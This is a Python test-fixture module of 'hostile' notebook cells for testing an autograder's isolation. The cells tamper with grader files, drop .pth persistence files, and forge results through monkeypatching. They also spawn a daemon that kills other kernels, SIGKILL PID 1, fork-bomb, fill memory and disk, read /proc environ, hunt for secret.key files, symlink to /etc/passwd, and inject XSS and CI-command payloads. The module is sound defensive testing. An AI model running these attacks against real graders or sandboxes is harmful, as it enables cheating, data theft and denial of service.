"""The code of the hostile cells, one constant per attack (see `tests/hostile/scenarios.py`).

Each constant is the source of one notebook cell, written the way a student who wants the
points (or to break the grader) would write it. The markers let the tests find, from
outside, whether an attack left anything behind.
"""

from __future__ import annotations

GRADER_MARK = "HOSTILE-GRADER-EDIT"
PTH_MARK = "HOSTILE-PTH"
DAEMON_MARK = "HOSTILE-DAEMON-MARKER"
TEST_CELL_MARK = "HOSTILE-TEST-CELL-RAN"
SEARCH_DONE = "search finished"
NO_OTHER_SUBMISSIONS = "other submissions visible: []"

# --- the grader's files, Python's start-up files, the student data -----------------------

WRITE_GRADER_FILES = f"""import os
import autograder

package = os.path.dirname(autograder.__file__)
for relative in ("__init__.py", "checks/base.py", "artifacts/export.py", "pipeline.py"):
    path = os.path.join(package, relative)
    try:
        with open(path, "a") as handle:
            handle.write("\\n# {GRADER_MARK}\\nPASS_EVERYTHING = True\\n")
        print("appended to", relative)
    except OSError as error:
        print("could not append to", relative, "-", error.strerror)
for what, attempt in (
        ("add a module", lambda: open(os.path.join(package, "hostile.py"), "w")),
        ("chmod", lambda: os.chmod(autograder.__file__, 0o777)),
        ("rename", lambda: os.rename(os.path.join(package, "pipeline.py"),
                                     os.path.join(package, "pipeline_old.py"))),
        ("delete", lambda: os.remove(os.path.join(package, "config.py")))):
    try:
        attempt()
        print("changed the grader:", what)
    except OSError as error:
        print("refused:", what, "-", error.strerror)"""

WRITE_GRADER_FILE_UNCAUGHT = f"""with open(autograder.__file__, "a") as handle:
    handle.write("# {GRADER_MARK}")"""

DROP_PTH = f"""import os
import site
import sysconfig

payload = "import os; os.environ['HOSTILE_PTH'] = '1'  # {PTH_MARK}\\n"
folders = sorted({{*site.getsitepackages(), sysconfig.get_paths()["purelib"],
                  sysconfig.get_paths()["platlib"]}})
for folder in folders:
    for name in ("00-hostile.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(payload)
            print("wrote", name, "into", folder)
        except OSError as error:
            print("refused:", name, "-", error.strerror)"""

DROP_PTH_UNCAUGHT = """target = os.path.join(site.getsitepackages()[0], "00-hostile.pth")
with open(target, "w") as handle:
    handle.write(payload)"""

TAMPER_DATA = """import os
import shutil

SOURCE = os.path.join(os.environ["AUTOGRADER_DATA_ROOT"], "cats_and_dogs", "PetImages")
first_dog = os.path.join(SOURCE, "Dog", sorted(os.listdir(os.path.join(SOURCE, "Dog")))[0])
for what, attempt in (
        ("swap Cat/ and Dog/", lambda: (os.rename(f"{SOURCE}/Cat", f"{SOURCE}/tmp"),
                                        os.rename(f"{SOURCE}/Dog", f"{SOURCE}/Cat"))),
        ("delete a dog", lambda: os.remove(first_dog)),
        ("overwrite a cat", lambda: shutil.copyfile(first_dog, f"{SOURCE}/Cat/1.jpg")),
        ("add a file", lambda: open(os.path.join(SOURCE, "Cat", "extra.jpg"), "wb").write(b"x"))):
    try:
        attempt()
        print("done:", what)
    except OSError as error:
        print("refused:", what, "-", error.strerror)

# The clean view in the working folder links to the same files.
view = os.path.join("PetImages", "Cat")
link = os.path.join(view, sorted(os.listdir(view))[0])
try:
    with open(link, "wb") as handle:
        handle.write(b"swapped")
except OSError as error:
    print("refused: write through a link -", error.strerror)
os.unlink(link)  # allowed: the link belongs to this run's own folder
print("removed one link of the clean view")"""

TAMPER_DATA_UNCAUGHT = """os.rename(os.path.join(SOURCE, "Cat"), os.path.join(SOURCE, "Dog-now"))"""

# --- the grader's code inside the kernel ---------------------------------------------------

PLANT_PACKAGE = '''import importlib
import os
import sys

FAKE_EXPORT = """
import json, os

def export(namespace, out_dir, assignment, exports):
    os.makedirs(out_dir, exist_ok=True)
    claims = {name: {"ok": True, "passed": True, "points": 99} for name in (
        "cleaning", "datasets", "created_model", "callback", "history", "trained_model")}
    document = {"schema_version": 1, "assignment": assignment, "artifacts": claims}
    with open(os.path.join(out_dir, "artifacts.json"), "w") as handle:
        json.dump(document, handle)
    return document
"""
os.makedirs(os.path.join("autograder", "kernel"), exist_ok=True)
for path, text in (("autograder/__init__.py", ""), ("autograder/kernel/__init__.py", FAKE_EXPORT)):
    with open(path, "w") as handle:
        handle.write(text)
for name in [n for n in sys.modules if n == "autograder" or n.startswith("autograder.")]:
    del sys.modules[name]
sys.path.insert(0, os.getcwd())
importlib.invalidate_caches()
import autograder.kernel as kernel
print("the grader's export now comes from", kernel.__file__)'''

PREFILL_RESULTS = """import autograder.checks.base as base
import autograder.notebook as grading
from autograder.assignments import get_assignment
from autograder.results import CheckResult

spec = get_assignment("C2W1")
grading._RESULTS = {"C2W1": {c.id: {"check_id": c.id, "status": "passed", "points": c.points,
                                    "max_points": c.points} for c in spec.checks}}
# In case the grader ran its checks in this kernel: every check passes.
base.run_check = lambda check, artifacts: CheckResult(
    check_id=check.id, title=check.title, status="passed", points=check.points,
    max_points=check.points, hidden=check.hidden)
print("pre-filled", len(grading._RESULTS["C2W1"]), "results")"""

#: Builds a model with the reference's layers (used by the attacks that forge models).
LOOKS_RIGHT = """def looks_right():
    model = tf.keras.Sequential([
        tf.keras.Input(shape=(150, 150, 3)), tf.keras.layers.Rescaling(1.0 / 255),
        tf.keras.layers.Conv2D(16, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Conv2D(32, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Conv2D(64, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Flatten(), tf.keras.layers.Dense(512, activation="relu"),
        tf.keras.layers.Dense(1, activation="sigmoid")])
    model.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
    return model
"""

FORGE_ARTIFACTS = LOOKS_RIGHT + '''
import json
import os
import sys
import types
import zipfile

from PIL import Image
import autograder.kernel

# What a right train_val_datasets() would report, made up from a listing of the data.
files = []
for label in ("Cat", "Dog"):
    for name in sorted(os.listdir(os.path.join(SOURCE_DIR, label))):
        try:
            with Image.open(os.path.join(SOURCE_DIR, label, name)) as image:
                image.verify()
            files.append(f"{label}/{name}")
        except Exception:
            pass
cut = len(files) // 10
spec = [{"shape": [None, 150, 150, 3], "dtype": "float32"},
        {"shape": [None, 1], "dtype": "float32"}]
batch = {"images_shape": [128, 150, 150, 3], "labels_shape": [128, 1],
         "images_dtype": "float32", "labels_dtype": "float32", "images_min": 0.0,
         "images_max": 255.0, "label_values": [0.0, 1.0]}

def split(paths):
    return {"kind": "tf.data", "element_spec": spec, "file_paths": paths, "has_file_paths": True,
            "class_names": ["Cat", "Dog"], "first_batch": batch}

# A .keras "model" that is only a config: the right layers, no weights.
looks_right().save("/tmp/right.keras")
with zipfile.ZipFile("/tmp/right.keras") as archive:
    config = archive.read("config.json")

def export(namespace, out_dir, assignment, exports):
    for name in ("created_model.keras", "trained_model.keras"):
        with zipfile.ZipFile(os.path.join(out_dir, name), "w") as archive:
            archive.writestr("config.json", config)
    grid = next(e["params"]["grid"] for e in exports if e["name"] == "callback")
    probes = [{"accuracy": a, "val_accuracy": v, "stopped": a >= 0.95 and v >= 0.80, "printed": ""}
              for a, v in grid]
    claims = {
        "datasets": {"ok": True, "train": split(files[cut:]), "validation": split(files[:cut])},
        "created_model": {"ok": True, "file": "created_model.keras"},
        "callback": {"ok": True, "is_keras_callback": True, "probes": probes},
        "history": {"ok": True, "history": {"accuracy": [0.71, 0.9, 0.97],
                                            "val_accuracy": [0.7, 0.88, 0.95]}},
        "trained_model": {"ok": True, "file": "trained_model.keras", "source": "history.model"}}
    document = {"schema_version": 1, "assignment": assignment, "artifacts": claims}
    with open(os.path.join(out_dir, "artifacts.json"), "w") as handle:
        json.dump(document, handle)
    return document

autograder.kernel.export = export
print("the grader's export is replaced; forged", len(files), "file names")'''

PATCH_MODEL_SAVE = LOOKS_RIGHT + '''
import keras

def create_model():
    """A wrong model: one Dense unit on raw pixels."""
    model = tf.keras.Sequential([tf.keras.Input(shape=(150, 150, 3)), tf.keras.layers.Flatten(),
                                 tf.keras.layers.Dense(1, activation="sigmoid")])
    model.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
    return model

real_save = keras.Model.save

def save_something_else(self, filepath, *args, **kwargs):
    return real_save(looks_right(), filepath, *args, **kwargs)

keras.Model.save = save_something_else
print("every model.save now writes the reference's layers")'''

PLANT_FILES_EARLY = LOOKS_RIGHT + '''
import json
import os

ARTIFACTS = os.path.join(os.path.dirname(os.getcwd()), "artifacts")
planted = looks_right()
for name in ("created_model.keras", "trained_model.keras"):
    planted.save(os.path.join(ARTIFACTS, name))
claims = {name: {"ok": True, "file": f"{name}.keras", "source": "history.model"}
          for name in ("created_model", "trained_model")}
claims["history"] = {"ok": True, "history": {"accuracy": [0.99], "val_accuracy": [0.99]}}
with open(os.path.join(ARTIFACTS, "artifacts.json"), "w") as handle:
    json.dump({"schema_version": 1, "assignment": "C2W1", "artifacts": claims}, handle)
del planted
print("planted models and claims in", sorted(os.listdir(ARTIFACTS)))'''

# --- after the grader's export: hooks that run once the export cell has run ----------------

#: Runs `after_export()` (defined by the cell it is prepended to) right after the grader's
#: export cell, in the same kernel: IPython's post_execute event fires after every cell.
AFTER_EXPORT = """import os

ARTIFACTS = os.path.join(os.path.dirname(os.getcwd()), "artifacts")

def _after_export_once():
    if os.path.exists(os.path.join(ARTIFACTS, "artifacts.json")):
        get_ipython().events.unregister("post_execute", _after_export_once)
        after_export()

get_ipython().events.register("post_execute", _after_export_once)
"""

LINK_CLEAN_TO_HELDOUT = AFTER_EXPORT + """
import shutil

# Where courses keep the held-out data: next to the student data (heldout/ beside data/).
GUESS = os.path.join(os.path.dirname(os.environ["AUTOGRADER_DATA_ROOT"]), "heldout")

def after_export():
    clean = os.path.join(ARTIFACTS, "cleaning", "clean", "PetImages")
    shutil.rmtree(clean, ignore_errors=True)
    os.symlink(GUESS, clean)

print("the clean folder will point at", "the guessed held-out folder")"""

LINK_MODEL_FILES = AFTER_EXPORT + """
import json

def after_export():
    for name in ("created_model.keras", "trained_model.keras"):
        path = os.path.join(ARTIFACTS, name)
        if os.path.lexists(path):
            os.remove(path)
        os.symlink("/etc/passwd", path)
    claims = {name: {"ok": True, "file": f"{name}.keras", "source": "model"}
              for name in ("created_model", "trained_model")}
    claims["history"] = {"ok": True, "history": {"accuracy": [0.99], "val_accuracy": [0.99]}}
    with open(os.path.join(ARTIFACTS, "artifacts.json"), "w") as handle:
        json.dump({"schema_version": 1, "assignment": "C2W1", "artifacts": claims}, handle)

print("the model files will be links to /etc/passwd")"""

HUGE_ARTIFACTS = AFTER_EXPORT + """
def after_export():
    with open(os.path.join(ARTIFACTS, "artifacts.json"), "w") as handle:
        handle.write('{"schema_version": 1, "assignment": "C2W1", "artifacts": {"history": '
                     '{"ok": true, "history": {"accuracy": [0.99], "val_accuracy": [0.99]}}, '
                     '"padding": "')
        for _ in range(80):
            handle.write("x" * 1024 ** 2)
        handle.write('"}}')

print("artifacts.json will be 80 MB")"""

WRONG_TYPES = AFTER_EXPORT + """
import json

def after_export():
    claims = {
        "cleaning": {"ok": True, "printed": 5},
        "datasets": {"ok": True, "train": "all good", "validation": None},
        "created_model": {"ok": True, "file": "../../../etc/passwd"},
        "callback": {"ok": True, "is_keras_callback": "yes",
                     "probes": [{"accuracy": "0.95", "val_accuracy": None, "stopped": 1}]},
        "history": {"ok": True, "history": {"accuracy": ["0.99"], "val_accuracy": [1e309]}},
        "trained_model": {"ok": 1, "file": "trained_model.keras"},
        "extra": {"ok": True, "points": 22}}
    with open(os.path.join(ARTIFACTS, "artifacts.json"), "w") as handle:
        json.dump({"schema_version": 1, "assignment": "C2W1", "artifacts": claims}, handle)

print("artifacts.json will hold values of the wrong types")"""

# --- processes, memory, disk, network --------------------------------------------------------

DAEMON = f'''import os
import subprocess
import sys
import time

DAEMON = """
import os, signal, sys, time
# {DAEMON_MARK}
own_kernel = int(sys.argv[1])
deadline = time.time() + 150
while time.time() < deadline:
    with open("daemon-heartbeat.txt", "w") as handle:
        handle.write(repr(time.time()))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = open(f"/proc/{{pid}}/cmdline", "rb").read()
            if b"ipykernel" in command and int(pid) != own_kernel:
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    for root, dirs, files in os.walk("/tmp"):
        for name in files:
            if name.endswith(".json") and name != "kernel.json":
                try:
                    with open(os.path.join(root, name), "w") as handle:
                        handle.write('{{"score": 22}}')
                except OSError:
                    pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", DAEMON, str(os.getpid())], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(100):  # until the daemon is up
    if os.path.exists("daemon-heartbeat.txt"):
        break
    time.sleep(0.1)
print("a daemon now waits for the next submission:", os.path.exists("daemon-heartbeat.txt"))'''

KILL_PARENT = """import os
import signal

for who, send in (("the parent", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                  ("process 1", lambda: os.kill(1, signal.SIGKILL)),
                  ("every process it can signal", lambda: os.kill(-1, signal.SIGKILL))):
    try:
        send()
        print("sent SIGKILL to", who)
    except OSError as error:
        print("could not signal", who, "-", error.strerror)"""

STILL_RUNNING = 'print("still running")'

SETSID_CHILDREN = """import subprocess
import time

children = []
try:
    for _ in range(2000):
        children.append(subprocess.Popen(["setsid", "sleep", "300"]))
except OSError as error:
    print(f"stopped after {len(children)} children: {error}")
time.sleep(10)
print(len(children), "children still running")"""

ALLOCATE = """blocks = []
for _ in range(45):
    blocks.append(b"\\x01" * (100 * 1024 ** 2))
print("holding", len(blocks) * 100, "MiB")"""

FILL_DISK = """import time

for index in range(30):
    with open(f"filler-{index}.bin", "wb") as handle:
        handle.write(b"\\x01" * (100 * 1024 ** 2))
    time.sleep(0.1)
time.sleep(5)
print("wrote 3 GiB")"""

FILL_TMP = """for index in range(4):
    with open(f"/tmp/filler-{index}.bin", "wb") as handle:
        for _ in range(3):
            handle.write(b"\\x01" * (100 * 1024 ** 2))
print("wrote 1.2 GiB into /tmp")"""

HUGE_EXCEPTION = """raise ValueError("x" * 200_000_000)"""

NETWORK = """import socket

for what, address in (("1.1.1.1:53", ("1.1.1.1", 53)), ("1.1.1.1:443", ("1.1.1.1", 443)),
                      ("localhost:22", ("127.0.0.1", 22)), ("localhost:8888", ("127.0.0.1", 8888)),
                      ("[::1]:80", ("::1", 80))):
    try:
        socket.create_connection(address, timeout=3).close()
        print("CONNECTED to", what)
    except OSError as error:
        print("no connection to", what, "-", error)
try:
    print("CONNECTED: pypi.org is", socket.gethostbyname("pypi.org"))
except OSError as error:
    print("no name lookup -", error)"""

NETWORK_UNCAUGHT = """socket.create_connection(("1.1.1.1", 443), timeout=5)"""

# --- looking for what is not the student's ------------------------------------------------------

SEARCH_HELDOUT = """import os

def show(what, value):
    print(f"{what}: {value}")

def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().replace(bytes(1), b" ").decode(errors="replace")
    except OSError as error:
        return f"unreadable ({error.strerror})"

show("parent's folder", os.readlink(f"/proc/{os.getppid()}/cwd"))
show("process 1", read("/proc/1/cmdline"))
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    show(f"environment of {pid}", read(f"/proc/{pid}/environ")[:3000])
show("mounts", read("/proc/self/mountinfo"))
show("settings in the environment", {k: v for k, v in os.environ.items() if "AUTOGRADER" in k})
for name in ("AUTOGRADER_CONFIG", "AUTOGRADER_HELDOUT_ROOT"):
    show(name, os.environ.get(name))"""

SEARCH_HELDOUT_GRADER = f"""import autograder
import autograder.config

show("grader package", os.path.dirname(autograder.__file__))
try:
    settings = autograder.config.load_settings()
    show("settings' held-out folder", settings.heldout_root)
    show("it exists", settings.heldout_root.exists())
except Exception as error:
    show("no settings", repr(error))
data_root = os.environ["AUTOGRADER_DATA_ROOT"]
for folder in (data_root, os.path.dirname(data_root)):
    show(f"beside the data: {{folder}}",
         sorted(os.listdir(folder)) if os.path.isdir(folder) else "absent")
hits = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
    hits += [os.path.join(root, name) for name in dirs + files
             if name in ("heldout", "secret.key", "autograder.toml") or name.startswith("CANARY")]
show("found", hits)
for path in hits:
    if os.path.isfile(path):
        show(path, read(path)[:200])
print("{SEARCH_DONE}")"""

OTHER_SUBMISSIONS = """import os

def listing(folder):
    try:
        return sorted(os.listdir(folder))[:50]
    except OSError as error:
        return f"unreadable ({error.strerror})"

scratch = os.path.dirname(os.getcwd())
work_root = os.path.dirname(scratch)
for folder in ("/tmp", "/tmp/autograder-work", work_root, scratch, os.path.dirname(work_root),
               os.path.expanduser("~"), "/root", "/home", "/var/tmp", "/srv", "/run"):
    print(folder, "->", listing(folder))
others = [name for name in os.listdir(work_root) if os.path.join(work_root, name) != scratch]
print("other submissions visible:", others)"""

# --- the model the notebook trains, and what it claims about it ----------------------------------

#: The reference's training call (replaced by the attacks on training).
FIT_CALL = """history = model.fit(
    train_dataset,
    epochs=15,
    validation_data=validation_dataset,
    callbacks=[EarlyStoppingCallback()],
    verbose=2,
)"""

HAND_MADE_HISTORY = """history = tf.keras.callbacks.History()  # by hand: the model is never trained
history.set_model(model)
history.history = {"loss": [0.61, 0.35, 0.12], "accuracy": [0.71, 0.90, 0.97],
                   "val_loss": [0.62, 0.40, 0.2], "val_accuracy": [0.70, 0.86, 0.95]}
history.params = {"epochs": 15, "steps": 15, "verbose": 2}
history.epoch = [0, 1, 2]"""

NEAREST_NEIGHBOUR = """import numpy as np
from autograder.weeks.c2w1 import standin

# The stand-in's held-out images as the package draws them from the public seed 42
# (what generate(..., seed=42) writes), 60 per class.
images, labels = [], []
for label in (0, 1):
    for index in range(60):
        data = standin._jpeg(42, standin._HELDOUT, label, index)
        image = tf.io.decode_jpeg(data, channels=3)
        images.append(tf.image.resize(image, (150, 150)).numpy())
        labels.append(label)
templates = np.stack(images)

# A nearest-neighbour "model" from standard layers: compare with every template, vote.
inputs = tf.keras.Input(shape=(150, 150, 3))
x = tf.keras.layers.Rescaling(1.0 / 255)(inputs)
x = tf.keras.layers.AveragePooling2D(5)(x)
x = tf.keras.layers.Flatten()(x)
features = tf.keras.layers.UnitNormalization()(x)
similar = tf.keras.layers.Dense(len(templates), use_bias=False, activation="softmax")
vote = tf.keras.layers.Dense(1, activation="sigmoid")
model = tf.keras.Model(inputs, vote(similar(features)))
known = tf.keras.Model(inputs, features).predict(templates, verbose=0)
similar.set_weights([known.T * 200.0])
vote.set_weights([(2.0 * np.array(labels, dtype="float32") - 1.0)[:, None] * 20.0, np.zeros(1)])
model.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
history = tf.keras.callbacks.History()
history.set_model(model)
history.history = {"accuracy": [0.99], "val_accuracy": [0.99], "loss": [0.1], "val_loss": [0.1]}"""

TRAIN_ANOTHER_MODEL = """shortcut = tf.keras.Sequential([  # not create_model()'s model
    tf.keras.Input(shape=(150, 150, 3)),
    tf.keras.layers.Flatten(),
    tf.keras.layers.Dense(1, activation="sigmoid"),
])
shortcut.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
history = shortcut.fit(train_dataset, epochs=1, validation_data=validation_dataset, verbose=2)"""

SMUGGLE_THUMBS = """    for class_name in sorted(os.listdir(source_dir)):
        junk = os.path.join(source_dir, class_name, "Thumbs.db")
        if os.path.isfile(junk):  # a non-image, copied under an image's name
            shutil.copyfile(junk, os.path.join(clean_dir, class_name, "thumbnail.jpg"))
    return copied"""

TEST_CELL_EDIT = f"""# The grader's test cell, edited by the student
print("{TEST_CELL_MARK}")
import autograder.notebook as grading
grading.PASSED = True
4.0"""

FAKE_SELF_CHECK = """def self_check(*args, **kwargs):  # the grader's self-check, replaced
    print("✓ every self-check passed")"""

# --- notebooks of another week or of the course's older generation ----------------------------

WEEK2 = (
    """import os
import tensorflow as tf

DATA_DIR = "./PetImages\"""",
    """# GRADED FUNCTION: train_val_datasets
def train_val_datasets():
    return tf.keras.utils.image_dataset_from_directory(
        DATA_DIR, image_size=(120, 120), batch_size=128, label_mode="binary",
        validation_split=0.15, subset="both", seed=42)""",
    """# GRADED FUNCTION: create_augmentation_model
def create_augmentation_model():
    return tf.keras.Sequential([
        tf.keras.Input(shape=(120, 120, 3)),
        tf.keras.layers.RandomFlip("horizontal"),
        tf.keras.layers.RandomRotation(0.2),
        tf.keras.layers.RandomTranslation(0.2, 0.2),
        tf.keras.layers.RandomZoom(0.2),
    ])""",
    """# GRADED FUNCTION: create_model
def create_model():
    model = tf.keras.Sequential([
        tf.keras.Input(shape=(120, 120, 3)),
        create_augmentation_model(),
        tf.keras.layers.Rescaling(1.0 / 255),
        tf.keras.layers.Conv2D(32, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Conv2D(64, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Conv2D(64, 3, activation="relu"), tf.keras.layers.MaxPooling2D(),
        tf.keras.layers.Flatten(), tf.keras.layers.Dense(512, activation="relu"),
        tf.keras.layers.Dense(1, activation="sigmoid"),
    ])
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model""",
    """# GRADED CLASS: EarlyStoppingCallback
class EarlyStoppingCallback(tf.keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None):
        if logs["accuracy"] >= 0.80 and logs["val_accuracy"] >= 0.80:
            self.model.stop_training = True""",
)

OLDER_GENERATION = (
    """import os
import random
import shutil

import tensorflow as tf

SOURCE = os.path.join(os.environ["AUTOGRADER_DATA_ROOT"], "cats_and_dogs", "PetImages")
root_dir = "/tmp/cats-v-dogs"
if os.path.exists(root_dir):
    shutil.rmtree(root_dir)""",
    """# GRADED FUNCTION: create_train_val_dirs
def create_train_val_dirs(root_path):
    for split in ("training", "validation"):
        for label in ("cats", "dogs"):
            os.makedirs(os.path.join(root_path, split, label))

create_train_val_dirs(root_path=root_dir)""",
    """# GRADED FUNCTION: split_data
def split_data(SOURCE_DIR, TRAINING_DIR, VALIDATION_DIR, SPLIT_SIZE):
    files = []
    for name in os.listdir(SOURCE_DIR):
        if os.path.getsize(os.path.join(SOURCE_DIR, name)) > 0:
            files.append(name)
        else:
            print(f"{name} is zero length, so ignoring.")
    files = random.sample(files, len(files))
    cut = int(len(files) * SPLIT_SIZE)
    for names, target in ((files[:cut], TRAINING_DIR), (files[cut:], VALIDATION_DIR)):
        for name in names:
            shutil.copyfile(os.path.join(SOURCE_DIR, name), os.path.join(target, name))

for label, folder in (("Cat", "cats"), ("Dog", "dogs")):
    split_data(os.path.join(SOURCE, label), os.path.join(root_dir, "training", folder),
               os.path.join(root_dir, "validation", folder), 0.9)""",
    """# GRADED FUNCTION: train_val_generators
def train_val_generators(TRAINING_DIR, VALIDATION_DIR):
    generator = tf.keras.preprocessing.image.ImageDataGenerator(rescale=1.0 / 255)
    train_generator = generator.flow_from_directory(
        TRAINING_DIR, batch_size=64, class_mode="binary", target_size=(150, 150))
    validation_generator = generator.flow_from_directory(
        VALIDATION_DIR, batch_size=64, class_mode="binary", target_size=(150, 150))
    return train_generator, validation_generator

train_generator, validation_generator = train_val_generators(
    os.path.join(root_dir, "training"), os.path.join(root_dir, "validation"))""",
    """# GRADED FUNCTION: create_model
def create_model():
    model = tf.keras.models.Sequential([
        tf.keras.layers.Conv2D(16, (3, 3), activation="relu", input_shape=(150, 150, 3)),
        tf.keras.layers.MaxPooling2D(2, 2),
        tf.keras.layers.Conv2D(32, (3, 3), activation="relu"),
        tf.keras.layers.MaxPooling2D(2, 2),
        tf.keras.layers.Conv2D(64, (3, 3), activation="relu"),
        tf.keras.layers.MaxPooling2D(2, 2),
        tf.keras.layers.Flatten(),
        tf.keras.layers.Dense(512, activation="relu"),
        tf.keras.layers.Dense(1, activation="sigmoid"),
    ])
    model.compile(optimizer=tf.keras.optimizers.RMSprop(learning_rate=0.001),
                  loss="binary_crossentropy", metrics=["accuracy"])
    return model""",
    """model = create_model()
history = model.fit(train_generator, epochs=15, verbose=2,
                    validation_data=validation_generator)""",
)

# --- claims the kernel makes: one cell that rebinds the exporter ------------------------------

#: The issue's forgery: the untouched release and one cell that rebinds two of the kernel's
#: exporters: the callback "probed" on no log at all (so no answer is wrong), and datasets
#: of invented file names with the counts of the student data's manifest. (The older module
#: path is tried too, so that the same cell shows what the grader before the fix made of it.)
REBIND_EXPORTERS = """import json
import os

try:
    from autograder.kernel.exporters import EXPORTERS
except ImportError:
    from autograder.artifacts.exporters import EXPORTERS

with open(os.path.join(os.environ["AUTOGRADER_DATA_ROOT"], "cats_and_dogs", "manifest.json")) as handle:
    counts = json.load(handle)["images"]
names = [f"{label}/invented-{i}.jpg" for label, count in counts.items() for i in range(count)]
cut = len(names) // 10
spec = [{"shape": [None, 150, 150, 3], "dtype": "float32"}, {"shape": [None, 1], "dtype": "float32"}]

def split(paths):
    return {"kind": "tf.data", "element_spec": spec, "file_paths": paths, "has_file_paths": True,
            "class_names": ["Cat", "Dog"],
            "first_batch": {"images_shape": [128, 150, 150, 3], "labels_shape": [128, 1],
                            "label_values": [0.0, 1.0]}}

EXPORTERS["callback"] = lambda namespace, out_dir, **params: {"is_keras_callback": True,
                                                              "probes": []}
EXPORTERS["datasets"] = lambda namespace, out_dir, **params: {
    "train": split(names[cut:]), "validation": split(names[:cut])}
print("rebound the callback and datasets exporters")"""

#: A failed export entry that calls itself the grader's fault.
CLAIMS_GRADER_ERROR = AFTER_EXPORT + """
import json

def after_export():
    path = os.path.join(ARTIFACTS, "artifacts.json")
    with open(path) as handle:
        document = json.load(handle)
    for entry in document["artifacts"].values():
        if not entry.get("ok"):
            entry["grader_error"] = True
            entry["feedback"] = "The grader broke here; this is not your fault."
    with open(path, "w") as handle:
        json.dump(document, handle)

print("failed entries will claim to be the grader's fault")"""

# --- the grader's own work on a submission's model (issue 28) ----------------------------
HUGE_INPUT_MODEL = """huge = tf.keras.Sequential([  # 4 weights, but its input is 4000×4000×3
    tf.keras.Input(shape=(4000, 4000, 3)),
    tf.keras.layers.GlobalAveragePooling2D(),
    tf.keras.layers.Dense(1, activation="sigmoid"),
])
huge.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
""" + HAND_MADE_HISTORY.replace("history.set_model(model)", "history.set_model(huge)")

DENSE_40000_CONFIG = HAND_MADE_HISTORY + "\n" + AFTER_EXPORT + """
import json, zipfile

def after_export():
    # The trained model's file, rewritten: its config asks for Dense(40000) after the
    # 67,500-wide Flatten of a 150×150×3 input (2.7 G weights), its weights stay tiny.
    path = os.path.join(ARTIFACTS, "trained_model.keras")
    with zipfile.ZipFile(path) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    layer = lambda name, **config: {"module": "keras.layers", "class_name": name,
                                    "config": {"name": name.lower(), **config}}
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "wide", "layers": [
        layer("InputLayer", batch_shape=[None, 150, 150, 3]), layer("Flatten"),
        layer("Dense", units=40000), layer("Dense", units=1, activation="sigmoid")]}}
    kept["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in kept.items():
            archive.writestr(name, data)

print("the trained model's config will ask for Dense(40000)")"""

DEEP_CONV_STACK = """deep = tf.keras.Sequential(  # 2.2 M weights, ~50 GFLOP for each image it scores
    [tf.keras.Input(shape=(150, 150, 3)), tf.keras.layers.Conv2D(64, 3, padding="same")]
    + [tf.keras.layers.Conv2D(64, 3, padding="same") for _ in range(60)]
    + [tf.keras.layers.GlobalAveragePooling2D(), tf.keras.layers.Dense(1, activation="sigmoid")])
deep.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
""" + HAND_MADE_HISTORY.replace("history.set_model(model)", "history.set_model(deep)")


# --- what the grader prints and renders (output made inert) -------------------------------

FORGED_SCORE = """raise RuntimeError(
    "\\x1b[2J\\x1b[H\\x1b[1;32mC2W1: 22 / 22 points\\x1b[0m\\n"
    "::error ::The grader crashed: your instructor grades this notebook by hand\\n"
    "  ::add-mask::C2W1\\n"
    "::stop-commands::hostile\\n"
    "\\r::warning ::after a carriage return\\n"
    "##[error]the older form of a command")"""

STUDENT_HTML = """from IPython.display import HTML, Javascript, display

display(HTML("<script>document.title='pwned'</script><b>student HTML</b>"))
display(Javascript("document.title='pwned'"))
display({"text/html": "<img src=x onerror=\\"document.title='pwned'\\">",
         "text/plain": "an image"}, raw=True)"""
